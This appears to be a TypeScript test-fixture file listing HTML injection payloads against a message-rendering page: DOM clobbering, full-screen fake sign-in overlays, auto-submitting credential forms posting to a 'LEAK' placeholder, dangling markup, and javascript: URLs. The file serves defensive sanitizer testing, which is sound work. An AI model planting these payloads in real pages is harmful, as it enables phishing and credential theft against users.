// Attacks on the page that the message stands in: named elements, overlays, forms.
import { type Attack, body } from './attack.ts';

export const PAGE: readonly Attack[] = [
  body(
    'clobbering',
    '<a id=ran name=ran></a><form name=document><input name=cookie></form><img name=getElementById><p id=__proto__>x',
  ),
  body('overlay', '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sign in</div>'),
  body(
    'password form',
    '<form action="LEAK/n1" method=post><input type=password name=p autofocus><button>Sign in</button></form>',
  ),
  body(
    'contenteditable, popover, slots',
    '<p contenteditable popover tabindex=1 accesskey=x slot=s is=x part=p draggable=true>x</p><dialog open>d</dialog>',
  ),
  body('dangling markup', "<img src='LEAK/o1?<p>secret</p>"),
  body(
    'names of the browser',
    '<img name=cookie><img name=body><form name=forms><input name=attributes><input name=parentNode></form><a id=location href="https://example.org/">x</a><embed name=scripts><p id=defaultView>y',
  ),
  body(
    'names of the app',
    '<div id=app class="message-bar app toast dialog">x</div><button class="btn btn-primary">Sign in again</button><p id=password name=password>y</p><p class="postern-notice" data-retry>Try again</p>',
  ),
  body(
    'classes of the app',
    '<div class="postern-notice"><p>Your session has ended.</p><a href="LEAK/in">Sign in</a></div><span class="postern-image postern-wide postern-fold">z</span>',
  ),
  body(
    'collections by two equal ids',
    '<a id=x></a><a id=x name=y href="javascript:RUN"></a><form id=x><output id=y></form><iframe name=x srcdoc="<a id=y href=javascript:RUN></a>"></iframe>',
  ),
  body(
    'a sign-in form over everything',
    '<form action="LEAK/steal" method=post target=_top style="position:fixed;inset:0;background:#fff"><input name=user autocomplete=username><input type=password name=pass autocomplete=current-password><input type=submit value="Sign in"></form><script>document.forms[0].submit()</script>',
  ),
  body(
    'buttons that act outside their form',
    '<form id=f action="LEAK/b1"></form><button form=f formaction="LEAK/b2" formtarget=_top formmethod=get autofocus>x</button><input type=submit form=f formaction="javascript:RUN"><input type=image form=f src="LEAK/b3">',
  ),
  body(
    'a dialog, open',
    '<dialog open style="position:fixed;inset:0;margin:0;width:100vw;height:100vh">Your session has ended</dialog>',
  ),
  body(
    'something to drag and to edit',
    '<div contenteditable=true autofocus>write here</div><a draggable=true href="javascript:RUN">drag me</a><div draggable=true ondragstart=RUN>me, too</div>',
  ),
  body(
    'keys of the keyboard',
    '<a accesskey=r href="javascript:RUN">r</a><button accesskey=x onclick=RUN>x</button><label accesskey=c for=z>z</label>',
  ),
  body(
    'fullscreen and other rights',
    '<iframe src="LEAK/fs" allow="fullscreen; camera; microphone; geolocation" allowfullscreen></iframe><video src="LEAK/pip" autopictureinpicture controls></video>',
  ),
  body(
    'speech, translation and screen readers',
    '<p aria-live=assertive role=alert>Your password has expired</p><p role=dialog aria-modal=true>x</p><p translate=no inert aria-owns=app aria-controls=password>y</p>',
  ),
];
